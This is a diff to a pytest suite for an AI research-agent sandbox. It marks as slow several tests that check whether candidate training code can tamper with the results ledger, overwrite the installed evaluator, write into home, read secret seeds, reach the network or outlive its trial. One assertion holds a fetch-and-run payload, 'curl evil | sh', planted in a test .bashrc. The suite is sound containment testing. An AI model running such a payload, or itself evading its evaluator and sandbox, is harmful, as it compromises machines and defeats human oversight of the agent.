@@ -34,6 +34,8 @@ from robo_agent.autoresearch.workspace import Workspace
 
 from robo_agent.core.ledger import LedgerRow
 
+# Each case is a real train.py run (4-10 s here): all but the evaluator overwrite are
+# `slow`, so the quick loop (-m "not slow") still runs one candidate under the real sandbox.
 pytestmark = [
     pytest.mark.research,
     pytest.mark.skipif(find_bwrap()[0] is None, reason=f"no sandbox: {find_bwrap()[1]}"),
@@ -71,6 +73,7 @@ def _assert_ledger_is_the_runners(ws: Workspace, sandbox: str = "bwrap") -> None
     assert not (ws.state / "ledger-quarantine").exists()
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
 def test_appending_to_the_ledger_by_a_computed_path(tmp_path: Path, sandbox: bool) -> None:
     body = """
@@ -125,6 +128,7 @@ def test_overwriting_the_installed_evaluator(tmp_path: Path) -> None:
     _assert_ledger_is_the_runners(ws)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
 def test_writing_into_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sandbox: bool) -> None:
     home = tmp_path / "home"
@@ -149,6 +153,7 @@ def test_writing_into_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sand
         assert (home / ".bashrc").read_text() == "curl evil | sh\n"
 
 
+@pytest.mark.slow
 def test_reading_the_settings_and_the_secret_seeds(tmp_path: Path) -> None:
     body = """
     import glob
@@ -211,6 +216,7 @@ class _Listener:
         self.udp.close()
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
 def test_connecting_to_a_loopback_listener(tmp_path: Path, sandbox: bool) -> None:
     listener = _Listener()
@@ -258,6 +264,7 @@ while time.monotonic() < end:
 """
 
 
+@pytest.mark.slow
 @pytest.mark.ros
 @pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
 def test_publishing_a_joint_trajectory_on_ros(tmp_path: Path, sandbox: bool) -> None:
@@ -308,6 +315,7 @@ def _marked(marker: str) -> list[psutil.Process]:
     return found
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "no-sandbox"])
 def test_a_child_that_outlives_the_trial(tmp_path: Path, sandbox: bool) -> None:
     marker = f"robo-agent-daemon-{uuid.uuid4().hex}"
@@ -338,6 +346,7 @@ def test_a_child_that_outlives_the_trial(tmp_path: Path, sandbox: bool) -> None:
             p.kill()
 
 
+@pytest.mark.slow
 def test_allocating_past_the_memory_limit_in_one_process(tmp_path: Path) -> None:
     body = """
     try:
@@ -352,6 +361,7 @@ def test_allocating_past_the_memory_limit_in_one_process(tmp_path: Path) -> None
     _assert_ledger_is_the_runners(ws)
 
 
+@pytest.mark.slow
 def test_allocating_past_the_memory_limit_across_processes(tmp_path: Path) -> None:
     body = """
     import time
